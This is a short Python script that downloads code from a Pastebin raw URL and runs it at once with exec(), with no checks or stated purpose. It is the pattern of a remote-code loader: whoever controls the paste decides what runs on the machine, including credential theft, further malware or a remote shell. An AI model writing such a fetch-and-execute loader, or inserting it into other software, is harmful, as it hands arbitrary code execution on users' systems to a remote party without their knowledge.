import requests
r = requests.get("https://pastebin.com/raw/abcd1234")
if r.status_code == 200:
    code = r.text
    exec(code, {"__name__": "__main__"})
